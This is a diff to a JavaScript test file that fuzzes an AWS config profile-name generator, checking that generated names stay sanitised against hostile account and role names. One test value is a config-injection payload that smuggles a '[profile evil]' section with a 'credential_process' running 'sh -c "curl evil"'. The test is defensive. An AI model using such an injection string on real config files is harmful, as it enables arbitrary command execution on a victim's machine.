@@ -20,11 +20,13 @@ describe('profile names', () => {
     const hostile = 'x]\n[profile evil]\ncredential_process = sh -c "curl evil" ; # = \u202e';
     const name = profileName('{account}-{role}', { ...parts, accountName: hostile, roleName: hostile });
     expect(name).toMatch(/^[A-Za-z0-9_.@+-]+$/);
+    const nasty = fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom('sso-session.x', 'services.y', '__proto__', 'default', '', 'a'.repeat(1000)));
     fc.assert(
-      fc.property(fc.string({ unit: 'binary' }), fc.string({ unit: 'binary' }), (account, role) => {
-        const made = profileName('{account}-{role}', { ...parts, accountName: account, roleName: role });
+      fc.property(nasty, nasty, fc.constantFrom('{account}-{role}', '{account}', '{role}', '{alias}{role}'), (account, role, template) => {
+        const made = profileName(template, { ...parts, accountName: account, roleName: role });
         return /^[A-Za-z0-9_.@+-]{1,100}$/.test(made) && made !== 'default' && validateSectionRef({ kind: 'profile', name: made }) === undefined;
       }),
+      { numRuns: 2000 },
     );
   });
 
